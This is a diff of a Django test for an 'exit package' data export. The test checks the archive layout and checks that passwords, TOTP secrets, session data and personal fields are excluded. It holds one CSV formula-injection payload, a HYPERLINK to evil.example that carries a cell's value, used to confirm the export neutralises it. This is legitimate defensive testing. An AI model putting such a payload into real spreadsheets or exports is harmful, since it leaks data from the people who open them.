@@ -25,6 +25,7 @@ from reports import charts, outputs, presentation
 from reports.indicators import ALL_CODES
 from reports.models import ReportFile, ReportKind, ReportRun, RunStatus, SupportRecord
 from reports.tasks import run_report
+from tests.conftest import TOTP_SECRET
 from tests.factories import OrganisationFactory
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
@@ -465,7 +466,7 @@ def test_esf_run_is_never_suppressed_even_if_the_row_says_so(project, participan
 
 
 # --- Exit package ---------------------------------------------------------------------------------------
-def test_exit_package_has_directory_data_tables_calendar_and_no_personal_data(project, measures_data, world):
+def test_exit_package_has_every_table_the_directory_data_the_calendar_and_no_secrets(project, measures_data, world):
     draft = Event.objects.create(
         organiser=world.org_a,
         title_sv="Utkast",
@@ -481,54 +482,69 @@ def test_exit_package_has_directory_data_tables_calendar_and_no_personal_data(pr
     assert list(run.files.values_list("format", flat=True)) == ["zip"]
 
     archive = zipfile.ZipFile(io.BytesIO(_file(run, "zip")))
+    root = f"asfnet-exit-{run.code}/"
     names = set(archive.namelist())
+    assert all(n.startswith(root) for n in names)
+    data = root + "representations/rep1/data/"
+    open_data = root + "representations/rep2/data/"
     assert {
-        "directory/datapackage.json",
-        "directory/organizations.csv",
-        "directory/organizations.json",
-        "organisations.csv",
-        "memberships.csv",
-        "funded_projects.csv",
-        "events.csv",
-        "opportunities.csv",
-        "partner_requests.csv",
-        "agreements.csv",
-        "support_records.csv",
-        "report_runs.csv",
-        "report_results.json",
-        "events.ics",
-        "README.txt",
+        root + "METS.xml",
+        root + "metadata/descriptive/manifest.json",
+        root + "metadata/preservation/schema.json",
+        root + "documentation/README.txt",
+        root + "representations/rep1/METS.xml",
+        data + "directory_organisation.csv",
+        data + "directory_membership.csv",
+        data + "matchmaking_fundedproject.csv",
+        data + "matchmaking_participant.csv",
+        data + "matchmaking_labourmarketevent.csv",
+        data + "events_event.csv",
+        data + "events_registration.csv",
+        data + "matchmaking_agreement_parties.csv",
+        data + "reports_supportrecord.csv",
+        data + "reports_reportrun.csv",
+        data + "asfnet_user.csv",
+        data + "asfnet_auditlog.csv",
+        open_data + "directory/datapackage.json",
+        open_data + "directory/organizations.csv",
+        open_data + "report_results.json",
+        open_data + "events.ics",
     } <= names
-    assert not [n for n in names if "participant" in n or "registration" in n]
+    for left_out in ("django_session", "mfa_authenticator", "asfnet_pendingtask", "events_calendarfeedtoken"):
+        assert data + left_out + ".csv" not in names
 
     def table(name):
-        return list(csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8")))
+        return list(csv.DictReader(io.TextIOWrapper(archive.open(data + name + ".csv"), encoding="utf-8")))
 
-    organisations = table("organisations.csv")
+    organisations = table("directory_organisation")
     assert {o["name"] for o in organisations} >= {"Returen Återbruk", "Dolda Snickeriet"}
-    memberships = table("memberships.csv")
-    assert list(memberships[0]) == ["organisation_id", "organisation", "role", "since"]
+    participants = table("matchmaking_participant")
+    assert len(participants) == Participant.objects.count() > 0
+    assert not {"name", "full_name", "email", "personnummer"} & set(participants[0])
+    users = table("asfnet_user")
+    assert {u["email"] for u in users} >= {"coordinator@example.se", "staff.a@example.se"}
+    assert {u["password"] for u in users} == {""}  # password hashes never leave the installation
     everything = "".join(archive.read(n).decode("utf-8", "replace") for n in names)
-    for email in ("staff.a@example.se", "coordinator@example.se", "buyer@example.se"):
-        assert email not in everything
-    headers = " ".join(archive.read(n).decode("utf-8").split("\r\n")[0] for n in names if n.endswith(".csv"))
-    for personal in ("gender", "birth_date", "guest_name", "guest_email", "dietary", "online_url", "checkin"):
-        assert personal not in headers
-    projects = table("funded_projects.csv")
+    assert TOTP_SECRET not in everything
+    projects = table("matchmaking_fundedproject")
     assert projects[0]["name"] == "'" + EVIL_NAME  # neutralised in the CSV as well
-    assert len(table("support_records.csv")) == 4
-    runs = table("report_runs.csv")
+    assert len(table("reports_supportrecord")) == 4
+    runs = table("reports_reportrun")
     assert {r["kind"] for r in runs} == {"esf", "exit_package"}
     esf_run = next(r for r in runs if r["kind"] == "esf")
-    assert (esf_run["rules_version"], esf_run["delivered_at"], esf_run["rerun_of"]) == ("2026-11-30", "", "")
-    results = json.loads(archive.read("report_results.json"))
+    assert (esf_run["rules_version"], esf_run["delivered_at"], esf_run["rerun_of_id"]) == ("2026-11-30", "\\N", "\\N")
+    results = json.loads(archive.read(open_data + "report_results.json"))
     assert results[0]["result"]["indicators"]["EECO01"]["total"] == 4
     assert (results[0]["rules_version"], results[0]["delivered_at"]) == ("2026-11-30", None)
+    manifest = json.loads(archive.read(root + "metadata/descriptive/manifest.json"))
+    assert manifest["package_id"] == f"asfnet-exit-{run.code}"
+    assert manifest["tables"]["matchmaking_participant"]["rows"] == len(participants)
+    assert run.result["files"]["representations/rep1/data/matchmaking_participant.csv"] == len(participants)
 
-    calendar = icalendar.Calendar.from_ical(archive.read("events.ics"))
+    calendar = icalendar.Calendar.from_ical(archive.read(open_data + "events.ics"))
     uids = {str(e["UID"]) for e in calendar.walk("VEVENT")}
     published = Event.objects.filter(status=EventStatus.PUBLISHED)
     assert uids == {f"{e.code}@asfnet" for e in published}
     assert f"{draft.code}@asfnet" not in uids
-    assert run.result["files"]["events.ics"] == published.count()
-    assert run.result["files"]["organisations.csv"] == len(organisations)
+    assert run.result["files"]["representations/rep2/data/events.ics"] == published.count()
+    assert run.result["files"]["representations/rep1/data/directory_organisation.csv"] == len(organisations)
